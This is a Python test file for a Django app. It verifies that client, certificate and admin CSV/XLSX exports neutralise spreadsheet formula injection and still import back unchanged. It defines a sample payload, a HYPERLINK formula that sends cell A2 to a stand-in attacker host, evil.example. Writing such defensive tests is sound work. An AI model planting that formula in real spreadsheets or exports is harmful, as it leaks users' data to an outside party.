"""Issue 14, finding 4: CSV exports never carry a formula (OWASP CSV injection), and an export
still imports back unchanged.

A text cell beginning with =, +, -, @, a tab or a carriage return is written with a ' in front
(infra/csvsafe.py) by every CSV export: the client export, the certificate export and
django-import-export's admin exports; every import takes that one quote off again."""

import csv
import io

import pytest
from django.contrib import admin
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clients.imports.client_export import export_clients
from clients.imports.client_import import import_clients
from clients.models import Client, Contact
from infra.csvsafe import DANGEROUS, neutralise, unneutralise
from infra.importexport import FORMATS, SafeCSV, SafeImportExportMixin, SafeXLSX
from infra.tabular import normalise_text
from tests.certificates import test_import_certificates as certs
from tests.clients.test_import_clients import ZH, row

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def csv_file(rows) -> bytes:
    """A client list as our export writes it: quoted as needed, text cells neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(ZH)
    for values in rows:
        writer.writerow([neutralise(v) for v in values])
    return out.getvalue().encode("utf-8-sig")


def formula_cells(cells: list[list[str]]) -> list[str]:
    return [c for r in cells for c in r if c.startswith(DANGEROUS)]


# -- the function ------------------------------------------------------------------------------
@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_comes_back_unchanged(text):
    safe = neutralise(text)
    assert not safe.startswith(DANGEROUS)
    assert unneutralise(safe) == text
    assert safe in (text, "'" + text)


@given(st.sampled_from(DANGEROUS), st.text())
def test_dangerous_text_gets_exactly_one_quote(first, rest):
    assert neutralise(first + rest) == "'" + first + rest
    assert unneutralise("'" + first + rest) == first + rest


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("+86 10 1234 5678", "'+86 10 1234 5678"),
        ("-foo", "'-foo"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("'=x", "''=x"),  # a quote already there is kept: one more is added
        ("'quoted'", "'quoted'"),
        ("北京", "北京"),
        ("", ""),
    ],
)
def test_examples(text, written):
    assert neutralise(text) == written
    assert unneutralise(written) == text


def test_values_that_are_not_text_are_left_alone():
    assert neutralise(-5) == -5
    assert neutralise(None) is None
    assert unneutralise(3.5) == 3.5


# -- the client export and import --------------------------------------------------------------
def test_the_client_export_writes_no_formula_and_imports_back(db):
    data = csv_file([row(1, name=EVIL, phone="+86 10 1234 5678", contact="-Li")])
    assert import_clients(io.BytesIO(data)).committed
    client = Client.objects.get()
    assert client.legal_name == EVIL  # the quote of the file was taken off
    assert client.contacts.get().phone == "+86 10 1234 5678"
    out = io.BytesIO()
    export_clients(out, format="csv")
    cells = csv_cells(out.getvalue())
    assert formula_cells(cells) == []
    assert "'" + EVIL in cells[1]
    assert "'+86 10 1234 5678" in cells[1]
    report = import_clients(io.BytesIO(out.getvalue()), dry_run=True)
    assert (report.total, report.unchanged) == (1, 1), report.errors


def test_an_xlsx_export_writes_text_not_a_formula(db):
    import openpyxl

    import_clients(io.BytesIO(csv_file([row(1, name=EVIL)])))
    out = io.BytesIO()
    export_clients(out, format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type) == (EVIL, "s")
    report = import_clients(io.BytesIO(out.getvalue()), dry_run=True)
    assert report.unchanged == 1, report.errors


# Formula starters, quotes, separators, full-width punctuation (made half-width by the
# import), Chinese.
_TEXT = st.text(
    alphabet=st.sampled_from("=+-@'\t\r \",;|abcXYZ019北京有限公司\uff0c\uff08\uff09()"),
    min_size=1,
    max_size=30,
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    names=st.lists(
        st.tuples(st.sampled_from(["", *DANGEROUS, "'", "'=", "''-"]), _TEXT),
        min_size=1,
        max_size=4,
    ),
    phones=st.lists(
        st.text(alphabet=st.sampled_from("+-=@' 0123456789()"), max_size=20), min_size=4, max_size=4
    ),
)
def test_clients_with_any_names_and_phones_survive_export_and_import(db, names, phones):
    # What the import would store (normalised text, sites' separators aside).
    rows, expected = [], {}
    for n, (prefix, text) in enumerate(names, start=1):
        name = normalise_text(prefix + text).replace("|", "/").replace(";", ",")
        phone = normalise_text(phones[n - 1])
        if not name:
            continue
        rows.append(row(n, name=name, phone=phone))
        expected[row(n)[1]] = (name, phone)
    with transaction.atomic():
        first = import_clients(io.BytesIO(csv_file(rows)))
        assert first.ok, first.errors
        stored = {
            c.registration_id: (c.legal_name, Contact.objects.get(client=c).phone)
            for c in Client.objects.all()
        }
        assert stored == expected
        out = io.BytesIO()
        export_clients(out, format="csv")
        assert formula_cells(csv_cells(out.getvalue())) == []
        again = import_clients(io.BytesIO(out.getvalue()), dry_run=True)
        assert (again.total, again.unchanged) == (len(rows), len(rows)), again.errors
        transaction.set_rollback(True)


# -- the certificate export --------------------------------------------------------------------
importer = certs.importer  # the fixture: a decision maker


def test_the_certificate_export_writes_no_formula_and_imports_back(importer):
    from certificates.imports.certificate_export import export_certificates

    certs.clients(1)
    Client.objects.update(legal_name=EVIL)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(certs.ZH)
    writer.writerow([neutralise(v) for v in certs.row(1, name=EVIL, scope="-" + certs.SCOPE)])
    report = certs.run(out.getvalue().encode("utf-8"), by=importer)
    assert report.committed, certs.errors(report)
    exported = io.BytesIO()
    assert export_certificates(exported, format="csv") == 1
    cells = csv_cells(exported.getvalue())
    assert formula_cells(cells) == []
    assert "'" + EVIL in cells[1] and "'-" + certs.SCOPE in cells[1]
    again = certs.run(exported.getvalue(), by=importer, dry_run=True)
    assert (again.total, again.unchanged) == (1, 1), certs.errors(again)


# -- django-import-export in the admin ---------------------------------------------------------
def test_every_import_export_admin_is_held_to_the_safe_formats():
    from import_export.mixins import BaseImportExportMixin

    found = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, BaseImportExportMixin)
    ]
    assert found  # the audit-time rows at least
    for model_admin in found:
        assert isinstance(model_admin, SafeImportExportMixin), type(model_admin)
        assert list(model_admin.get_export_formats()) == FORMATS
        assert list(model_admin.get_import_formats()) == FORMATS


@pytest.fixture
def evil_table(db):
    from audits.models import AuditTimeRow, AuditTimeTable
    from clients.models import Standard

    standard = Standard.objects.create(code="=1+1", edition="-2024", title="+evil")
    table = AuditTimeTable.objects.create(standard=standard, source="test")
    AuditTimeRow.objects.create(table=table, min_personnel=1, max_personnel=5, days=1)
    AuditTimeRow.objects.create(table=table, min_personnel=6, max_personnel=10, days=2)
    return table


def _admin_export(admin_client, fmt_index: int) -> bytes:
    from audits.resources import AuditTimeRowResource

    fields = AuditTimeRowResource().get_export_order()
    response = admin_client.post(
        reverse("admin:audits_audittimerow_export"),
        {
            "format": str(fmt_index),
            "resource": "0",
            **{f"audittimerowresource_{name}": "on" for name in fields},
        },
    )
    assert "attachment" in response.get("Content-Disposition", ""), response.content[:2000]
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_admin_csv_export_is_neutralised_and_imports_back(admin_client, evil_table):
    from audits.models import AuditTimeRow

    data = _admin_export(admin_client, FORMATS.index(SafeCSV))
    cells = csv_cells(data)
    assert formula_cells(cells) == []
    assert [c[0] for c in cells if "1+1" in c[0]] == ["'=1+1:-2024", "'=1+1:-2024"]
    # Importing it back: the standard is found again and nothing changes.
    dataset = SafeCSV(encoding="utf-8-sig").create_dataset(data)
    assert [v for v in dataset["standard"] if "1+1" in v] == ["=1+1:-2024", "=1+1:-2024"]
    rows = AuditTimeRow.objects.count()
    from audits.resources import AuditTimeRowResource

    result = AuditTimeRowResource().import_data(dataset, dry_run=True)
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["update"] == result.totals["new"] == 0
    assert AuditTimeRow.objects.count() == rows


def test_the_admin_xlsx_export_writes_text_and_imports_back(admin_client, evil_table):
    import openpyxl

    data = _admin_export(admin_client, FORMATS.index(SafeXLSX))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("=1+1:-2024", "s")
    assert sheet["B2"].value == 1  # numbers stay numbers
    dataset = SafeXLSX().create_dataset(data)
    assert [v for v in dataset["standard"] if "1+1" in v] == ["=1+1:-2024", "=1+1:-2024"]
